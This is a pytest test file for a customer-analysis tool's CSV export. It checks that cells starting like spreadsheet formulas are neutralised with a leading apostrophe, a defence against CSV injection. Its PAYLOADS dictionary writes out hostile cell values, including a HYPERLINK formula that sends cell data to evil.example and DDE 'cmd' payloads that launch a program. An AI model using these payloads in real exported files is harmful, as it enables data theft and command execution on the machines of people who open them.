"""CSV safe to open in a spreadsheet (OWASP "CSV injection"): every text cell a spreadsheet would run as a formula
gets one leading apostrophe, in every CSV Kanta writes for people; numbers and Parquet stay as they are."""
from __future__ import annotations

import csv
import shutil
from pathlib import Path

import pandas as pd
import pytest

from analysis.base import BaseSettings, CustomerBase, month_actions
from analysis.cli import main
from analysis.data import FORMULA_STARTS, write_table
from report_month import SAMPLE

PAYLOADS = {"=": '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+": "+cmd|' /C calc'!A0",
            "-": "-2+3+cmd|' /C calc'!A0", "@": "@SUM(1+1)*cmd|' /C calc'!A0", "\t": "\t=1+1", "\r": "\r=1+1"}


def cells(path: Path) -> list[dict]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=["equals", "plus", "minus", "at", "tab", "carriage_return"])
def test_formula_start_in_a_csv_text_cell_gets_one_leading_apostrophe(tmp_path, start):
    payload = PAYLOADS[start]
    df = pd.DataFrame({"customer_id": [payload, "C1"], "label": ["ok", payload], "amount": [-12.5, 3.0]})
    rows = cells(write_table(df, tmp_path / "list.csv"))
    assert [r["customer_id"] for r in rows] == ["'" + payload, "C1"]
    assert [r["label"] for r in rows] == ["ok", "'" + payload]
    assert [r["amount"] for r in rows] == ["-12.5", "3.0"]  # a negative number is a number, not text


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=["equals", "plus", "minus", "at", "tab", "carriage_return"])
def test_parquet_keeps_the_formula_like_id_as_it_is(tmp_path, start):
    df = pd.DataFrame({"customer_id": [PAYLOADS[start]]})
    assert pd.read_parquet(write_table(df, tmp_path / "list.parquet"))["customer_id"].tolist() == [PAYLOADS[start]]


@pytest.mark.parametrize("value", ["C100", "a=b", "x-1", "mail@example", " =1", "'=1", "", "1e5"])
def test_text_that_does_not_start_a_formula_is_written_unchanged(tmp_path, value):
    df = pd.DataFrame({"customer_id": [value]}, dtype=object)
    got = pd.read_csv(write_table(df, tmp_path / "x.csv"), dtype=str, keep_default_na=False)["customer_id"]
    assert got.tolist() == [value]


def test_categorical_and_string_columns_are_neutralised_too(tmp_path):
    df = pd.DataFrame({"a": pd.Categorical(["=1", "b"]), "b": pd.array(["@x", None], dtype="string")})
    rows = cells(write_table(df, tmp_path / "x.csv"))
    assert [r["a"] for r in rows] == ["'=1", "b"] and [r["b"] for r in rows] == ["'@x", ""]


@pytest.fixture(scope="module")
def hostile_ids(tmp_path_factory) -> Path:
    """The sample's log and customers with every ID starting like a formula, and formula region labels."""
    d = tmp_path_factory.mktemp("formulas") / "source"
    d.mkdir()
    tx = pd.read_csv(SAMPLE / "transactions.csv", dtype=str, keep_default_na=False)
    cu = pd.read_csv(SAMPLE / "customers.csv", dtype=str, keep_default_na=False)
    starts = ["=1+", "+", "-", "@", "\t="]
    ids = {c: starts[i % len(starts)] + c for i, c in enumerate(sorted(cu["customer_id"]))}
    tx["customer_id"], cu["customer_id"] = tx["customer_id"].map(ids), cu["customer_id"].map(ids)
    cu["region"] = cu["region"].where(cu.index % 5 != 0, '=HYPERLINK("http://x","y")')
    tx.to_csv(d / "transactions.csv", index=False)
    cu.to_csv(d / "customers.csv", index=False)
    return d


def is_number(value: str) -> bool:
    try:
        float(value)
    except ValueError:
        return False
    return True


def assert_no_formula_cells(path: Path, id_column: str | None = "customer_id") -> int:
    rows = cells(path)
    assert rows
    raw = 0
    for r in rows:
        for value in r.values():
            assert not value.startswith(FORMULA_STARTS) or is_number(value), (path.name, value)
        raw += id_column is None or r[id_column].startswith("'")
    assert raw == len(rows)  # every ID of the fixture starts like a formula: each one was neutralised
    return raw


def test_segments_out_has_no_formula_cells(hostile_ids, tmp_path):
    out = tmp_path / "segments.csv"
    assert main(["segments", str(hostile_ids), "--as-of", "2026-10-31", "--out", str(out)]) == 0
    assert assert_no_formula_cells(out) > 1000


def test_churn_risk_list_has_no_formula_cells(hostile_ids, tmp_path):
    out = tmp_path / "risk.csv"
    assert main(["churn", str(hostile_ids), "--as-of", "2026-10-31", "--out", str(out), "--no-clv"]) == 0
    assert_no_formula_cells(out, id_column=None)  # the risk list names customers by pseudonym


def test_clv_out_has_no_formula_cells(hostile_ids, tmp_path):
    out = tmp_path / "clv.csv"
    assert main(["clv", str(hostile_ids), "--as-of", "2026-10-31", "--out", str(out)]) == 0
    assert_no_formula_cells(out)


def test_customers_out_csv_has_no_formula_cells_and_parquet_keeps_ids(hostile_ids, tmp_path):
    out = tmp_path / "customers.csv"
    assert main(["customers", str(hostile_ids), "--as-of", "2026-10-31", "--out", str(out),
                 "--include-prospects"]) == 0
    assert_no_formula_cells(out)
    pq = tmp_path / "customers.parquet"
    assert main(["customers", str(hostile_ids), "--as-of", "2026-10-31", "--out", str(pq)]) == 0
    assert pd.read_parquet(pq)["customer_id"].str.startswith(tuple(FORMULA_STARTS)).all()


def test_month_lists_have_no_formula_cells(hostile_ids, tmp_path):
    base = CustomerBase.build(hostile_ids, "2026-10-31", BaseSettings(n_clusters=3))
    written = 0
    for action in month_actions(base):  # as report/monthly.py writes lists/<action>.csv
        path = write_table(action.customers, tmp_path / f"{action.name}.csv")
        if len(action.customers):
            written += assert_no_formula_cells(path)
    assert written > 0
    shutil.rmtree(tmp_path, ignore_errors=True)
